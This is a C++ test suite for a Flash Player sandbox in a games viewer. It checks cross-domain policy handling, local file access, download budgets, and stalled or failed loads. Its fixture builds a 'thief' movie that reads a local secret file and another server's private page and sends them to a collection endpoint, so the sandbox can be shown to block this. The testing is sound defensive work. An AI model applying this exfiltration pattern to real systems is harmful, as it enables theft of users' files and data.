// Flash Player's sandbox, through the real games window: hostile movies written here try to read
// the user's files and other servers, send what they read away, and load more than the budget.

#include <QFile>
#include <QNetworkReply>
#include <QTest>
#include <algorithm>
#include <cstdio>
#include <string>

#include "core/games/flash_sandbox.h"
#include "games_fixture.h"
#include "proc_memory.h"
#include "watch.h"

using namespace qctest;

namespace {

using Send = Actions::Send;

const char kFileSecret[] = "LOCALFILE42";
const char kForeignSecret[] = "FOREIGN42";

class Sandbox : public Games {
protected:
    void SetUp() override {
        Games::SetUp();
        secretPath = "/tmp/qc-secret-" + std::to_string(getpid()) + ".txt";
        QFile f(QString::fromStdString(secretPath));
        ASSERT_TRUE(f.open(QIODevice::WriteOnly));
        f.write(QByteArray("secret=") + kFileSecret);
        f.close();
        opens = std::make_unique<FileOpens>(secretPath);
        other = std::make_unique<HttpServer>();
        Reply text;
        text.contentType = "text/plain";
        text.body = std::string("token=") + kForeignSecret;
        other->route("/private.txt", text);
        Reply toFile;
        toFile.status = 302;
        toFile.headers = {"Location: file://" + secretPath};
        server->route("/to-file", toFile);
    }
    void TearDown() override {
        Games::TearDown();
        other.reset();
        QFile::remove(QString::fromStdString(secretPath));
    }

    // Reads the file and the other server's page into its variables, then every second sends
    // them home (GET) and to the other server (POST).
    std::string thief() {
        Frame first;
        // The file directly, and through a redirect from the movie's own server.
        first.actions.loadVariables("file://" + secretPath, "_root")
            .loadVariables(server->url("/to-file"), "_root")
            .loadVariables(other->url("/private.txt"), "_root");
        std::vector<Frame> frames(24);
        frames[0] = first;
        frames[23]
            .actions.loadVariables(server->url("/collect"), "_root", Send::Get)
            .loadVariables(other->url("/post"), "_root", Send::Post)
            .gotoFrame(1)
            .play();
        return makeMovie(kRed, frames);
    }
    std::vector<std::string> sentHome() {
        std::vector<std::string> out;
        for (const auto& r : server->requests())
            if (r.rfind("GET /collect", 0) == 0) out.push_back(r);
        return out;
    }
    bool anySent(const char* secret) {
        for (const auto& r : sentHome())
            if (r.find(secret) != std::string::npos) return true;
        return false;
    }
    size_t otherSaw(const std::string& request) {
        const auto all = other->requests();
        return size_t(std::count(all.begin(), all.end(), request));
    }

    std::string secretPath;
    std::unique_ptr<FileOpens> opens;
    std::unique_ptr<HttpServer> other;
};

Reply policy(const std::string& domain) {
    Reply r;
    r.contentType = "text/x-cross-domain-policy";
    r.body = "<?xml version=\"1.0\"?><cross-domain-policy><allow-access-from domain=\"" + domain +
             "\"/></cross-domain-policy>";
    return r;
}

}  // namespace

TEST_F(Sandbox, AMovieReadsNoLocalFileAndNoOtherServerWithoutItsPolicyAndSendsNothingAway) {
    server->route("/thief.swf", movie(thief()));
    game("/thief.swf");
    ASSERT_TRUE(shows(kRed)) << pageState().toStdString();
    // Two rounds of sending: every load had its time.
    ASSERT_TRUE(waitUntil([&] { return sentHome().size() >= 2; }, kShowBound)) << seen();
    EXPECT_FALSE(anySent(kFileSecret)) << seen();
    EXPECT_FALSE(anySent(kForeignSecret)) << seen();
    EXPECT_EQ(opens->count(), 0) << "something opened " << secretPath;
    // The other server was asked for its policy, once, and for nothing else.
    EXPECT_EQ(otherSaw("GET /crossdomain.xml"), 1u);
    EXPECT_EQ(other->requests().size(), 1u);
    // Refused loads are failed loads: the movie plays on, the window stays usable.
    EXPECT_TRUE(pageState().startsWith("ready:")) << pageState().toStdString();
    game("/blue.swf");
    EXPECT_TRUE(shows(kBlue)) << pageState().toStdString();
}

TEST_F(Sandbox, AnotherServerWhosePolicyAllowsTheMoviesDomainIsReadAndSentTo) {
    other->route("/crossdomain.xml", policy("127.0.0.1"));
    server->route("/thief.swf", movie(thief()));
    game("/thief.swf");
    ASSERT_TRUE(shows(kRed)) << pageState().toStdString();
    EXPECT_TRUE(waitUntil([&] { return anySent(kForeignSecret); }, kShowBound)) << seen();
    EXPECT_TRUE(waitUntil([&] { return otherSaw("POST /post") >= 1; }, kShowBound));
    EXPECT_EQ(otherSaw("GET /crossdomain.xml"), 1u) << "asked once per movie";
    EXPECT_FALSE(anySent(kFileSecret));
    EXPECT_EQ(opens->count(), 0);
}

TEST_F(Sandbox, APolicyForOtherDomainsKeepsTheServerClosed) {
    other->route("/crossdomain.xml", policy("*.games.example"));
    server->route("/thief.swf", movie(thief()));
    game("/thief.swf");
    ASSERT_TRUE(waitUntil([&] { return sentHome().size() >= 2; }, kShowBound)) << seen();
    EXPECT_FALSE(anySent(kForeignSecret));
    EXPECT_EQ(otherSaw("POST /post"), 0u);
    EXPECT_EQ(other->requests().size(), 1u);
}

TEST_F(Sandbox, AMovieAddressThatIsNoWebAddressLoadsNothing) {
    form->ShockwaveFlash1().setMovie("file://" + secretPath);
    form->showWindow();
    EXPECT_TRUE(says(qc::GameFailure::Refused)) << pageState().toStdString();
    EXPECT_EQ(opens->count(), 0);
    game("/green.swf");
    EXPECT_TRUE(shows(kGreen)) << pageState().toStdString();
}

TEST_F(Sandbox, ManyParallelLargeLoadsStayWithinTheBudget) {
    const qc::FlashSandbox::Limits limits;
    constexpr int kLoads = 24;
    const size_t kMb = 1 << 20;
    Reply big = movie(makeSwf(kBlue) + std::string(kMb, '\0'));
    big.repeatBody = 60;  // 60 MB each: under the bound of one download
    Frame first;
    for (int i = 1; i <= kLoads; ++i) {
        server->route("/big" + std::to_string(i) + ".swf", big);
        first.actions.loadMovie(server->url("/big" + std::to_string(i) + ".swf"), i);
    }
    Frame last;
    last.actions.stop();
    server->route("/greedy.swf", movie(makeMovie(kRed, {first, last})));
    game("/red.swf");
    ASSERT_TRUE(shows(kRed));
    QTest::qWait(1000);
    MemoryPeaks before, during;
    before.sample();
    game("/greedy.swf");
    int peakConnections = 0;
    // Sampled while the loads run and a while after.
    for (int i = 0; i < 100; ++i) {
        QTest::qWait(100);
        during.sample();
        peakConnections = std::max(peakConnections, connectionsTo(server->port()));
    }
    size_t bigAsked = 0;
    for (const auto& r : server->requests()) bigAsked += r.rfind("GET /big", 0) == 0;
    EXPECT_LE(peakConnections, int(limits.parallel));
    EXPECT_GE(bigAsked, 1u) << seen();
    // Each process on its own, as the budget is kept: the page's process holds what the movie
    // loads, within the engine's budget (its watch would end it past that); the viewer's own holds
    // no more than the movie has in flight (in fact a chunk or two per running download, besides
    // the web engine's code as it is first run). Summed over all processes and held against four
    // times the movie's byte budget, this once failed under load, for three faults of the
    // viewer's: the page took its bodies as blobs, which the viewer's process kept until the page
    // collected its garbage; told a body's length, the web engine set aside a buffer of that size
    // in the viewer's process; and the allocator kept the megabyte chunks that passed through.
    std::printf(
        "large loads: %zu asked, at most %d connections; engine %ld MB before, peak %ld MB; viewer %ld MB "
        "before, peak %ld MB\n",
        bigAsked, peakConnections, before.engineKb() >> 10, during.engineKb() >> 10, before.selfKb() >> 10,
        during.selfKb() >> 10);
    EXPECT_LE(during.engineKb() - before.engineKb(), long(limits.engineBytes >> 10));
    EXPECT_LE(during.selfKb() - before.selfKb(), long(limits.bytesInFlight >> 10));
    EXPECT_EQ(shownMessage(), "") << "within the budget, the movie plays on";
    game("/green.swf");
    EXPECT_TRUE(shows(kGreen)) << pageState().toStdString();
}

TEST_F(Sandbox, ALargeFileBesideTheMovieArrivesWholeAndOneCutShortFails) {
    // Many chunks, streamed to the page as they come: the variable at its very end shows that
    // nothing was lost or cut short on the way. Until it is set the movie stays red. A body cut
    // short fails whole, though what came of it sets the variable.
    Reply large;
    large.contentType = "text/plain";
    large.body = "filler=" + std::string(6 << 20, 'x') + "&end=1";
    server->route("/levels.txt", large);
    Reply cut = large;
    cut.body = "end=1&filler=" + std::string(6 << 20, 'x');
    cut.mode = Reply::Mode::Truncate;
    cut.truncateAt = cut.body.size() - 100;
    server->route("/cut.txt", cut);
    auto movieLoading = [&](const std::string& path) {
        Frame load;
        load.actions.loadVariables(server->url(path), "_root");
        Frame check;                         // back to the frame before until `end` is set
        constexpr int kGotoAndPlaySize = 6;  // GotoFrame (5 bytes) and Play (1)
        check.actions.push("end").getVariable().skipIfTrue(kGotoAndPlaySize).gotoFrame(1).play();
        Frame arrived;
        arrived.showSquare = true;
        arrived.actions.stop();
        return movie(makeMovie(kRed, {load, Frame{}, check, arrived}, kGreen));
    };
    server->route("/cut.swf", movieLoading("/cut.txt"));
    server->route("/large.swf", movieLoading("/levels.txt"));
    game("/cut.swf");
    ASSERT_TRUE(shows(kRed));
    ASSERT_TRUE(waitUntil([&] { return requestsFor("/cut.txt") > 0; }, kShowBound));
    QTest::qWait(3000);
    EXPECT_TRUE(shows(kRed, 0)) << "a body cut short was taken whole";
    game("/large.swf");
    EXPECT_TRUE(shows(kGreen)) << pageState().toStdString() << seen();
}

TEST_F(Sandbox, TheNextGameDoesNotWaitBehindAMoviesStalledLoads) {
    // Its server takes every load and never answers: the movie's loads hold connections to the
    // very host and port the next game comes from, far longer than any test waits.
    Reply stall;
    stall.mode = Reply::Mode::Stall;
    Frame first;
    for (int i = 0; i < 8; ++i) {
        server->route("/level" + std::to_string(i) + ".txt", stall);
        first.actions.loadVariables(server->url("/level" + std::to_string(i) + ".txt"), "_root");
    }
    server->route("/stalling.swf", movie(makeMovie(kRed, {first, Frame{}})));
    game("/stalling.swf");
    ASSERT_TRUE(shows(kRed));
    ASSERT_TRUE(waitUntil(
        [&] {
            const auto all = server->requests();
            return std::count_if(all.begin(), all.end(),
                                 [](const std::string& r) { return r.rfind("GET /level", 0) == 0; }) >= 4;
        },
        kShowBound))
        << seen();
    // Well within the loads' own bound (FlashSandbox::Limits::stallMs), past which they would end anyway.
    constexpr int kBeforeTheStallsEnd = 10000;
    game("/blue.swf");
    EXPECT_TRUE(shows(kBlue, kBeforeTheStallsEnd)) << pageState().toStdString() << seen();
    game("/green.swf");
    EXPECT_TRUE(shows(kGreen, kBeforeTheStallsEnd)) << pageState().toStdString() << seen();
}

TEST_F(Sandbox, AMoviesRepliesEndWithItAcrossMovieChanges) {
    Reply stall;
    stall.mode = Reply::Mode::Stall;
    Frame first;
    for (int i = 0; i < 8; ++i) {
        server->route("/wait" + std::to_string(i) + ".txt", stall);
        first.actions.loadVariables(server->url("/wait" + std::to_string(i) + ".txt"), "_root");
    }
    server->route("/stalling.swf", movie(makeMovie(kRed, {first, Frame{}})));
    const auto replies = [&] { return engineView()->findChildren<QNetworkReply*>().size(); };
    for (int round = 0; round < 3; ++round) {
        const size_t asked = server->requests().size();
        game("/stalling.swf");
        ASSERT_TRUE(shows(kRed));
        ASSERT_TRUE(waitUntil([&] { return server->requests().size() >= asked + 5; }, kShowBound)) << seen();
        EXPECT_GE(replies(), 4) << "the stalled loads hold their replies while the movie runs";
        game("/blue.swf");
        ASSERT_TRUE(shows(kBlue));
    }
    // The old movies' replies were aborted, and are gone too: none stays until the engine goes.
    // (Deleted later, as the program's event loop does: the tests' waits only process events.)
    EXPECT_TRUE(waitUntil(
        [&] {
            QCoreApplication::sendPostedEvents(nullptr, QEvent::DeferredDelete);
            return replies() == 0;
        },
        5000))
        << replies() << " replies left";
}

TEST_F(Sandbox, TheNextGameDoesNotWaitBehindAFailingMoviesLoads) {
    // Every frame asks for eight files that aren't there, as a game retrying its levels does.
    Frame retry;
    for (int i = 0; i < 8; ++i)
        retry.actions.loadVariables(server->url("/missing" + std::to_string(i) + ".txt"), "_root");
    Frame again;
    again.actions.gotoFrame(0).play();
    server->route("/retrying.swf", movie(makeMovie(kRed, {retry, again})));
    game("/retrying.swf");
    ASSERT_TRUE(shows(kRed));
    ASSERT_TRUE(waitUntil([&] { return server->requests().size() > 40; }, kShowBound));
    game("/blue.swf");
    ASSERT_TRUE(shows(kBlue)) << pageState().toStdString();
    // From the next movie's request on, the old one asks for nothing more.
    const auto all = server->requests();
    const auto next = std::find(all.begin(), all.end(), "GET /blue.swf");
    ASSERT_NE(next, all.end());
    QTest::qWait(500);
    size_t after = 0;
    const auto later = server->requests();
    for (size_t i = size_t(next - all.begin()) + 1; i < later.size(); ++i)
        after += later[i].rfind("GET /missing", 0) == 0;
    EXPECT_EQ(after, 0u) << seen();
}
